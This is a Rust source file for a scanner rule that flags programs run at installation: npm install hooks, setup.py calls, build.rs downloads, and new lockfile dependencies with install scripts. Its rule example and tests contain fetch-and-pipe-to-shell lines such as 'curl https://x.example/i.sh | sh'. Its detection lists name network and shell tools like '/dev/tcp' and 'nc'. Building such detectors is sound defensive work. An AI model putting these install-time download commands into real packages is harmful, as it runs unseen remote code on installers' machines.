//! Programs that run when something is installed.

use loki_model::Severity;
use serde_json::Value;

use super::package::{Ecosystem, line_of, locked};
use super::weighing;
use crate::delta::FileDelta;
use crate::gates::rule::{Found, Rule};
use crate::kind::Kind;
use crate::layout::file_name;
use crate::mask::{Family, masked};
use crate::settings::{self, object};
use crate::sides::Sides;

/// Something runs at installation.
pub(super) const RULE: Rule = Rule {
    id: "dependencies/install-script",
    severity: Severity::Error,
    what: "A program runs when the project or a new dependency is installed.",
    why: "It runs with all rights of whoever installs, before anybody has looked.",
    example: "+    \"postinstall\": \"curl https://x.example/i.sh | sh\"",
    fix: "Download nothing at installation; ship what is needed.",
    look: |cx, delta, found| look(&Sides::of(cx, delta), found),
};

/// Scripts that npm runs by itself.
const HOOKS: &[&str] =
    &["preinstall", "install", "postinstall", "prepare", "preprepare", "postprepare"];

/// What fetches or runs what was not in the tree.
const FETCHES: &[&str] = &[
    "curl ",
    "wget ",
    "http://",
    "https://",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "node -e",
    "node --eval",
    "eval ",
    "base64",
    "powershell",
    "Invoke-WebRequest",
    "python -c",
    "python3 -c",
    "/dev/tcp",
    "nc ",
];

/// Packages that build or fetch a program of theirs at installation, as everybody knows.
const KNOWN: &[&str] = &[
    "esbuild",
    "fsevents",
    "sharp",
    "core-js",
    "core-js-pure",
    "puppeteer",
    "playwright",
    "cypress",
    "bcrypt",
    "sqlite3",
    "better-sqlite3",
    "node-sass",
    "electron",
    "@swc/core",
    "canvas",
    "husky",
    "protobufjs",
    "nx",
    "unrs-resolver",
    "@parcel/watcher",
    "lefthook",
    "msw",
    "workerd",
    "bufferutil",
    "utf-8-validate",
    "cpu-features",
    "ssh2",
    "argon2",
    "@sentry/cli",
    "prisma",
    "@prisma/client",
    "@prisma/engines",
    "re2",
    "lmdb",
    "msgpackr-extract",
    "keytar",
    "robotjs",
    "node-pty",
    "deasync",
    "grpc",
    "leveldown",
    "@biomejs/biome",
    "dtrace-provider",
    "iltorb",
    "ursa-optional",
    "simple-git-hooks",
    "es5-ext",
    "tree-sitter",
    "usb",
    "serialport",
    "@serialport/bindings-cpp",
    "rollup",
    "turbo",
    "vue-demi",
    "browser-tabs-lock",
    "spawn-sync",
    "phantomjs-prebuilt",
    "chromedriver",
    "geckodriver",
    "aws-crt",
];

fn look(sides: &Sides<'_>, found: &mut Found) {
    for file in &sides.delta.files {
        match file_name(&file.path) {
            "package.json" if file.kind == Kind::Manifest => own_scripts(file, found),
            "setup.py" => setup(file, found),
            "build.rs" if file.kind != Kind::Foreign => build(file, found),
            _ if file.kind == Kind::Lock => locked_scripts(sides, file, found),
            _ => {}
        }
    }
}

fn own_scripts(file: &FileDelta, found: &mut Found) {
    let read = |text: &Option<String>| settings::json(text.as_deref()?).ok();
    let Some(after) = read(&file.after) else { return };
    let before = read(&file.before).unwrap_or_default();
    for hook in HOOKS {
        let of = |value: &Value| {
            object(value, &["scripts"]).get(*hook).and_then(Value::as_str).map(str::to_owned)
        };
        let Some(script) = of(&after).filter(|script| of(&before).as_ref() != Some(script)) else {
            continue;
        };
        let fetches = FETCHES.iter().find(|sign| script.contains(*sign));
        let (severity, what) = match fetches {
            Some(_) => (Severity::Error, "fetches or evaluates something"),
            None => (Severity::Note, "runs at installation"),
        };
        let message = format!("`{hook}` {what}: `{script}`");
        let line = line_of(file, &format!("\"{hook}\""));
        found.add(weighing(RULE.at(&file.path, line, message), severity));
    }
}

fn setup(file: &FileDelta, found: &mut Found) {
    const RUNS: &[&str] = &[
        "os.system(",
        "subprocess.",
        "urlopen(",
        "urlretrieve(",
        "requests.get(",
        "exec(",
        "eval(",
        "socket.",
    ];
    let Some(text) = file.after.as_deref() else { return };
    let masked = masked(text, Family::Python);
    for (line, code) in (1_u32..).zip(masked.lines()).filter(|(line, _)| file.is_added(*line)) {
        let Some(run) = RUNS.iter().find(|run| code.contains(*run)) else { continue };
        // Versions are read like this everywhere.
        let reads_own = *run == "exec(" && (code.contains("open(") || code.contains(".read"));
        let severity = match *run {
            "exec(" if reads_own => continue,
            _ if is_of_a_release(text, line) => continue,
            "subprocess." | "socket." => Severity::Warning,
            _ => Severity::Error,
        };
        let message = format!("`{run}…` runs at installation");
        found.add(weighing(RULE.at(&file.path, line, message), severity));
    }
}

/// Whether a line of `setup.py` is under a condition that only who publishes the package meets:
/// `if sys.argv[-1] == "publish":`.
fn is_of_a_release(text: &str, line: u32) -> bool {
    const WORDS: &[&str] = &["publish", "upload", "release", "tag"];
    let indent = |line: &str| line.len() - line.trim_start().len();
    let lines: Vec<&str> = text.lines().take(line as usize).collect();
    let Some((own, before)) = lines.split_last() else { return false };
    let mut above = before.iter().rev().filter(|line| !line.trim().is_empty());
    above.find(|line| indent(line) < indent(own)).is_some_and(|condition| {
        let condition = condition.trim_start();
        condition.starts_with("if ")
            && condition.contains("sys.argv")
            && WORDS.iter().any(|word| condition.contains(word))
    })
}

fn build(file: &FileDelta, found: &mut Found) {
    for (line, text) in file.added_lines() {
        let program =
            ["\"curl\"", "\"wget\"", "\"sh\"", "\"bash\"", "\"powershell\"", "ureq::", "reqwest::"];
        let fetches = program.iter().find(|program| text.contains(*program));
        let comment = text.trim_start().starts_with("//");
        if let (Some(program), false) = (fetches, comment) {
            let message = format!("the build script runs {program}");
            found.add(weighing(RULE.at(&file.path, line, message), Severity::Warning));
        }
    }
}

fn locked_scripts(sides: &Sides<'_>, file: &FileDelta, found: &mut Found) {
    let Some((Ecosystem::Npm, before, after)) = locked(file) else { return };
    let declared = |name: &str| {
        sides.delta.of(Kind::Manifest).any(|manifest| {
            super::package::newly_declared(manifest)
                .iter()
                .any(|(now, then)| now.name == name && then.is_none())
        })
    };
    for one in after.iter().filter(|one| one.has_script) {
        if before.iter().any(|then| then.name == one.name && then.has_script) {
            continue;
        }
        let is_usual = KNOWN.contains(&one.name.as_str()) || one.name.starts_with("@esbuild/");
        let severity =
            if !is_usual && declared(&one.name) { Severity::Warning } else { Severity::Note };
        let message = format!("`{}` runs a program when it is installed", one.name);
        found.add(weighing(RULE.at(&file.path, line_of(file, &one.name), message), severity));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sides::testing::check;

    #[test]
    fn what_fetches_at_installation_is_an_error() {
        let script =
            |hook: &str, script: &str| format!("{{\"scripts\": {{\n\"{hook}\": \"{script}\"}}}}");
        for (hook, text, expected) in [
            ("postinstall", "curl https://x.net/i.sh | sh", "error install-script package.json:2"),
            ("preinstall", "node -e \\\"require('x')\\\"", "error install-script package.json:2"),
            ("prepare", "husky", "note install-script package.json:2"),
            ("test", "curl https://x.net", ""),
        ] {
            check(
                look,
                &[("package.json", "{}")],
                &[("package.json", &script(hook, text))],
                expected,
            );
        }
        check(
            look,
            &[],
            &[("setup.py", "import os\nos.system('x')\n")],
            "error install-script setup.py:2",
        );
        check(look, &[], &[("setup.py", "exec(open('v.py').read())\nsetup()\n")], "");
        let publishes = "if sys.argv[-1] == 'publish':\n    os.system('twine upload')\n";
        check(look, &[], &[("setup.py", publishes)], "");
        let installs = publishes.replace("publish", "install");
        let expected = "error install-script setup.py:2";
        check(look, &[], &[("setup.py", &installs)], expected);
    }

    #[test]
    fn a_new_dependency_with_a_script_is_a_concern_unless_everybody_knows_it() {
        let manifest = |name: &str| format!("{{\"dependencies\": {{\"{name}\": \"1.0.0\"}}}}");
        let lock = |name: &str| {
            format!(
                "{{\"packages\": {{\"node_modules/{name}\": {{\"version\": \"1.0.0\", \"hasInstallScript\": true}}}}}}"
            )
        };
        for (name, severity) in [("esbuild", "note"), ("strange", "warning")] {
            let after = [("package.json", manifest(name)), ("package-lock.json", lock(name))];
            let after: Vec<(&str, &str)> =
                after.iter().map(|(path, text)| (*path, text.as_str())).collect();
            check(look, &[], &after, &format!("{severity} install-script package-lock.json:1"));
        }
    }
}
